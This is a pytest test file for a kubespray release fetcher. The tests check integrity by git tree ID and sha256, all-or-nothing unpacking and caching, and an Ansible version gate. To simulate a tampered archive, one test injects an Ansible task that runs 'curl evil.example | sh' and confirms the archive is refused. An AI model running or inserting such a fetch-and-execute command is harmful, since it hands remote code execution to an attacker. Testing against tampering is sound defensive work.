"""Fetching kubespray: a release archive served on loopback, checked by its content's git tree ID
(computed by git itself here), unpacked whole or not at all; and the Ansible version gate."""

from __future__ import annotations

import gzip
import hashlib
import io
import shutil
import subprocess
import tarfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from kubedojo.errors import ConfigError, DownloadError, ToolMissingError
from kubedojo.onprem.kubespray import (
    ENTRY_POINTS,
    KubesprayFetcher,
    KubesprayRelease,
    KubesprayTree,
    check_ansible_version,
    git_tree_id,
)
from kubedojo.paths import CacheDirs

from .fileserver import serving

VERSION_FILE = """- name: Check the Ansible version
  hosts: all
  vars:
    minimal_ansible_version: 2.18.0
    maximal_ansible_version: 2.19.0
  tasks: []
"""


def git(repo: Path, *args: str) -> str:
    return subprocess.run(
        ["git", "-C", str(repo), *args],
        capture_output=True,
        text=True,
        check=True,
        env={
            "GIT_AUTHOR_NAME": "t",
            "GIT_AUTHOR_EMAIL": "t@t",
            "GIT_COMMITTER_NAME": "t",
            "GIT_COMMITTER_EMAIL": "t@t",
            "HOME": str(repo),
        },
    ).stdout.strip()


@pytest.fixture
def release_repo(tmp_path: Path) -> Path:
    """A small playbook tree with kubespray's shape: entry points, an executable, a symlink, nesting."""
    repo = tmp_path / "repo"
    (repo / "playbooks").mkdir(parents=True)
    (repo / "library").mkdir()
    (repo / "plugins" / "modules").mkdir(parents=True)
    for name in ENTRY_POINTS:
        (repo / name).write_text(f"- import_playbook: playbooks/{name}\n")
    (repo / "playbooks" / "ansible_version.yml").write_text(VERSION_FILE)
    (repo / "plugins" / "modules" / "kube.py").write_text("# module\n")
    (repo / "library" / "kube.py").symlink_to("../plugins/modules/kube.py")
    (repo / "contrib.sh").write_text("#!/bin/sh\n")
    (repo / "contrib.sh").chmod(0o755)
    (repo / "a").mkdir()  # git sorts directory "a" as "a/", after file "a.b" (and so must we)
    (repo / "a" / "x").write_text("x\n")
    (repo / "a.b").write_text("y\n")
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "release")
    return repo


@pytest.fixture
def served(tmp_path: Path) -> Iterator[tuple[Path, str]]:
    root = tmp_path / "www"
    root.mkdir()
    with serving(root) as url:
        yield root, f"{url}/releases"


def archive(repo: Path, into: Path, version: str) -> Path:
    into.mkdir(parents=True, exist_ok=True)
    path = into / f"{version}.tar.gz"
    data = subprocess.run(
        ["git", "-C", str(repo), "archive", "--format=tar.gz", f"--prefix=kubespray-{version[1:]}/", "HEAD"],
        capture_output=True,
        check=True,
    ).stdout
    path.write_bytes(data)
    return path


def test_tree_id_matches_git(release_repo: Path) -> None:
    expected = git(release_repo, "rev-parse", "HEAD^{tree}")
    shutil.rmtree(release_repo / ".git")
    assert git_tree_id(release_repo) == expected


def test_fetch_unpacks_a_checked_release_into_the_cache_once(release_repo, served, tmp_path) -> None:
    root, url = served
    tree_id = git(release_repo, "rev-parse", "HEAD^{tree}")
    path = archive(release_repo, root / "releases", "v9.9.9")
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    fetcher = KubesprayFetcher(
        CacheDirs(tmp_path / "cache"), url, KubesprayRelease("v9.9.9", tree_id, sha256=digest)
    )
    assert fetcher.cached() is None
    tree, fetched = fetcher.ensure()
    assert fetched
    tree.check_entry_points()
    assert (tree.path / "library" / "kube.py").is_symlink()
    assert (tree.path / "contrib.sh").stat().st_mode & 0o100
    assert tree.ansible_range() == ("2.18.0", "2.19.0")
    path.unlink()  # the second time nothing is downloaded
    again, fetched = fetcher.ensure()
    assert (again, fetched) == (tree, False)
    assert [p.name for p in (tmp_path / "cache" / "kubespray").iterdir()] == [f"v9.9.9-{tree_id[:12]}"]


def test_a_tampered_archive_is_refused_and_nothing_is_kept(release_repo, served, tmp_path) -> None:
    root, url = served
    tree_id = git(release_repo, "rev-parse", "HEAD^{tree}")
    path = archive(release_repo, root / "releases", "v9.9.9")
    with tarfile.open(path) as tar:
        members = [(m, tar.extractfile(m).read() if m.isfile() else None) for m in tar.getmembers()]  # type: ignore[union-attr]
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for member, data in members:
            if member.name.endswith("cluster.yml") and data is not None:
                data = data + b"- hosts: all\n  tasks: [{command: curl evil.example | sh}]\n"
                member.size = len(data)
            tar.addfile(member, io.BytesIO(data) if data is not None else None)
    path.write_bytes(gzip.compress(buffer.getvalue()))
    fetcher = KubesprayFetcher(CacheDirs(tmp_path / "cache"), url, KubesprayRelease("v9.9.9", tree_id))
    with pytest.raises(DownloadError, match=r"its files hash to tree \w{12}, not kubespray v9.9.9's"):
        fetcher.ensure()
    assert list((tmp_path / "cache" / "kubespray").iterdir()) == []


def test_a_wrong_sha256_a_missing_release_and_a_non_archive_are_refused(
    release_repo, served, tmp_path
) -> None:
    root, url = served
    tree_id = git(release_repo, "rev-parse", "HEAD^{tree}")
    archive(release_repo, root / "releases", "v9.9.9")
    cache = CacheDirs(tmp_path / "cache")
    with pytest.raises(DownloadError, match=r"sha256 .* is not the expected 0000"):
        KubesprayFetcher(cache, url, KubesprayRelease("v9.9.9", tree_id, sha256="0" * 64)).ensure()
    with pytest.raises(
        DownloadError, match=r"cannot download http://127.0.0.1:\d+/releases/v1.0.0.tar.gz: HTTP 404"
    ):
        KubesprayFetcher(cache, url, KubesprayRelease("v1.0.0", tree_id)).ensure()
    (root / "releases" / "v2.0.0.tar.gz").write_text("<html>not found</html>")
    with pytest.raises(DownloadError, match="not a usable release archive"):
        KubesprayFetcher(cache, url, KubesprayRelease("v2.0.0", tree_id)).ensure()
    assert list((tmp_path / "cache" / "kubespray").iterdir()) == []


def test_the_pinned_release_is_kubesprays_v2_31_0() -> None:
    from kubedojo.onprem.kubespray import KUBESPRAY
    from kubedojo.versions import KUBERNETES_VERSION

    assert KUBESPRAY.version == "v2.31.0"
    assert KUBESPRAY.archive_url("https://github.com/kubernetes-sigs/kubespray/archive/refs/tags") == (
        "https://github.com/kubernetes-sigs/kubespray/archive/refs/tags/v2.31.0.tar.gz"
    )
    assert len(KUBESPRAY.tree) == 40 and KUBESPRAY.tree != "0" * 40
    assert KUBERNETES_VERSION == "v1.35.4"  # kubespray v2.31.0's default


def test_ansible_version_gate(tmp_path: Path) -> None:
    (tmp_path / "playbooks").mkdir()
    (tmp_path / "playbooks" / "ansible_version.yml").write_text(VERSION_FILE)
    tree = KubesprayTree(tmp_path, "v2.31.0")
    check_ansible_version(tree, "2.18.19")
    check_ansible_version(tree, "2.18.0")
    for outside in ("2.17.9", "2.19.0", "2.21.1"):
        with pytest.raises(
            ToolMissingError,
            match=rf"'ansible-core>=2.18.0,<2.19.0' is not installed: .* has ansible-core {outside}",
        ):
            check_ansible_version(tree, outside)
    with pytest.raises(ConfigError, match="not a kubespray tree"):
        tree.check_entry_points()


def test_the_installed_ansible_core_is_the_one_kubespray_asserts() -> None:
    from kubedojo.client.ansible import ansible_core_version

    installed = tuple(int(p) for p in ansible_core_version().split(".")[:2])
    assert installed == (2, 18)
